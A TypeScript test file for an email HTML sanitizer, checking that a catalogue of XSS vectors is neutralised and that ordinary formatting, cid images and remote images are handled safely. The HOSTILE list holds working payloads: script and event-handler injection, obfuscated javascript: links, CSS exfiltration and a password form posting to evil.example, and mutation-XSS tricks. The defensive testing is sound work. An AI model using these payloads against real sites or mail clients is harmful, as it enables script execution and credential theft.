import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { sanitizeMailHtml } from '../../../../src/providers/kit/email/sanitize.js';

/** Every element of a parsed fragment, depth first. */
interface Element {
  type: string;
  name?: string;
  attribs?: Record<string, string>;
  children?: Element[];
}
function elements(html: string): Element[] {
  const all: Element[] = [];
  const walk = (nodes: Element[]) => {
    for (const node of nodes) {
      if (node.type === 'tag' || node.type === 'script' || node.type === 'style') all.push(node);
      walk(node.children ?? []);
    }
  };
  walk((parseDocument(html, { decodeEntities: true }) as unknown as Element).children ?? []);
  return all;
}

const FORBIDDEN_TAGS = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select', 'meta', 'base', 'link', 'svg', 'math', 'noscript', 'template', 'applet', 'video', 'audio', 'xmp'];

/**
 * What must hold for any output, whatever the input: no forbidden element, no event handler, no URL other
 * than http(s), mailto, tel or a server path, no CSS that fetches or computes — checked on the output parsed
 * again. (The cases below also sanitize the output a second time: it must come back unchanged, so a parser
 * reading it differently finds nothing a second pass would remove.)
 */
function assertHarmless(output: string): void {
  {
    for (const element of elements(output)) {
      expect(FORBIDDEN_TAGS, `element <${element.name}> in ${output}`).not.toContain(element.name);
      for (const [name, value] of Object.entries(element.attribs ?? {})) {
        expect(name.startsWith('on'), `handler ${name} in ${output}`).toBe(false);
        expect(['id', 'name', 'class', 'srcdoc', 'action', 'formaction', 'xlink:href', 'background'], `attribute ${name} in ${output}`).not.toContain(name);
        if (name === 'href' || name === 'src') {
          expect(value, `${name} in ${output}`).toMatch(/^(https?:|mailto:|tel:|\/(?![/\\]))/i);
        }
        if (name === 'style') expect(value, `style in ${output}`).not.toMatch(/url\s*\(|expression|image-set|\\|@import|behavior|binding|position/i);
      }
    }
  }
  expect(output).not.toMatch(/<script|javascript:|vbscript:|data:text|onerror\s*=|onload\s*=/i);
}

/** Classic vectors (OWASP XSS filter evasion cheat sheet, html5sec.org, mXSS papers), each as mail might carry it. */
const HOSTILE: Array<[string, string]> = [
  ['script element', '<p>hi</p><script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['uppercase and broken script', '<SCRIPT>alert(1)</SCRIPT><scr<script>ipt>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror without quotes or spaces', '<img/src="x"/onerror="alert(1)">'],
  ['svg onload', '<svg onload=alert(1)><circle r=5></svg>'],
  ['svg script with href', '<svg><script xlink:href="data:,alert(1)"></script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['body onload', '<body onload="alert(1)">text</body>'],
  ['javascript href', '<a href="javascript:alert(1)">click</a>'],
  ['javascript href with case and spaces', '<a href=" JaVaScRiPt:alert(1)">click</a>'],
  ['entity-encoded javascript href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>'],
  ['hex entity javascript without semicolons', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">click</a>'],
  ['javascript with a tab and newline inside', '<a href="jav&#x09;ascript:alert(1)">a</a><a href="java\nscript:alert(1)">b</a>'],
  ['javascript with named entity colon', '<a href="javascript&colon;alert(1)">click</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">click</a>'],
  ['data href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
  ['data image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['protocol-relative image', '<img src="//evil.example/track.gif">'],
  ['form posting elsewhere', '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>'],
  ['formaction button', '<button formaction="javascript:alert(1)">x</button>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="https://evil.example/"><a href="/login">login</a>'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['style block exfiltrating', '<style>input[value^=a]{background:url(https://evil.example/a)}</style><p>x</p>'],
  ['style attribute url', '<p style="background-image: url(https://evil.example/read?u=1)">x</p>'],
  ['style attribute escaped url', '<p style="background: \\75 rl(https://evil.example/)">x</p>'],
  ['style expression', '<p style="width: expression(alert(1))">x</p>'],
  ['style image-set and var', '<p style="background: image-set(\'https://evil.example/\' 1x); color: var(--x)">x</p>'],
  ['style overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%">Your session expired</div>'],
  ['style behavior and binding', '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</p>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['iframe src javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mXSS svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mXSS math mglyph', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['mXSS comment end', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['mXSS textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['attribute breaking quotes', '<a href="https://ok.example/" title="a" onmouseover="alert(1)">x</a>'],
  ['template content', '<template><img src=x onerror=alert(1)></template>'],
  ['dom clobbering', '<a id="config" name="config" href="https://ok.example/">x</a><img name="getElementById" src="https://ok.example/a.png">'],
  ['xml namespace trick', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'],
  ['cdata', '<![CDATA[<script>alert(1)</script>]]>'],
];

describe('sanitizeMailHtml', () => {
  it.each(HOSTILE)('nothing of %s survives', (_name, html) => {
    const output = sanitizeMailHtml(html);
    assertHarmless(output);
    // Sanitizing is stable: the output sanitized again is itself, so nothing was left for a second pass.
    expect(sanitizeMailHtml(output)).toBe(output);
  });

  it('keeps ordinary formatting: paragraphs, emphasis, links, lists, quotes, tables, inline styles', () => {
    const html =
      '<p>Hello <b>Ann</b>, <i>see</i> <strong>the</strong> <em>plan</em> at <a href="https://example.com/plan?x=1&amp;y=2">the plan</a>.</p>' +
      '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>' +
      '<blockquote>On Monday Bob wrote:<br>Ship it</blockquote>' +
      '<table border="0" cellpadding="4"><tr><th>Item</th><td style="color: rgb(200, 0, 0); font-weight: bold">Red</td></tr></table>' +
      '<p style="text-align:center"><a href="mailto:ann@example.com">mail Ann</a></p>';
    expect(sanitizeMailHtml(html)).toBe(
      '<p>Hello <b>Ann</b>, <i>see</i> <strong>the</strong> <em>plan</em> at <a href="https://example.com/plan?x=1&amp;y=2" rel="noopener noreferrer nofollow" target="_blank">the plan</a>.</p>' +
        '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>' +
        '<blockquote>On Monday Bob wrote:<br />Ship it</blockquote>' +
        '<table border="0" cellpadding="4"><tr><th>Item</th><td style="color:rgb(200, 0, 0);font-weight:bold">Red</td></tr></table>' +
        '<p style="text-align:center"><a href="mailto:ann@example.com" rel="noopener noreferrer nofollow" target="_blank">mail Ann</a></p>',
    );
  });

  it('maps cid: images through the callback to attachment URLs, and drops those it does not know', () => {
    const asked: string[] = [];
    const output = sanitizeMailHtml('<p><img src="cid:logo@mail.example" alt="Logo" width="40"><img src="cid:%3Cunknown%3E" alt="Chart"></p>', {
      resolveCid: (id) => {
        asked.push(id);
        return id === 'logo@mail.example' ? '/files/att-1/download?exp=1&sig=abc' : null;
      },
    });
    expect(asked).toEqual(['logo@mail.example', 'unknown']);
    expect(output).toBe('<p><img src="/files/att-1/download?exp=1&amp;sig=abc" alt="Logo" width="40" /><span>[Chart]</span></p>');
  });

  it('refuses what a cid callback answers unless it is http(s) or a path of this server', () => {
    for (const answer of ['javascript:alert(1)', 'data:image/png;base64,AAAA', '//evil.example/x.png']) {
      expect(sanitizeMailHtml('<img src="cid:a" alt="A">', { resolveCid: () => answer })).toBe('<span>[A]</span>');
    }
  });

  it('turns remote images into links by default and keeps only their alt text when blocked', () => {
    const html = '<p><img src="https://tracker.example/open.gif?u=42" alt="Banner"></p>';
    expect(sanitizeMailHtml(html)).toBe(
      '<p><a href="https://tracker.example/open.gif?u=42" rel="noopener noreferrer nofollow" target="_blank">[Banner]</a></p>',
    );
    expect(sanitizeMailHtml(html, { remoteImages: 'block' })).toBe('<p><span>[Banner]</span></p>');
    // An image without alt text leaves nothing when blocked, and a generic label when linked.
    expect(sanitizeMailHtml('<img src="https://t.example/p.gif">', { remoteImages: 'block' })).toBe('<span></span>');
    expect(sanitizeMailHtml('<img src="https://t.example/p.gif">')).toContain('>[image]</a>');
  });

  it('keeps the text of a whole HTML document and drops its head', () => {
    const output = sanitizeMailHtml(
      '<!DOCTYPE html><html><head><title>Newsletter</title><style>p{color:red}</style></head><body><p>Body text</p></body></html>',
    );
    expect(output).toBe('<p>Body text</p>');
  });
});
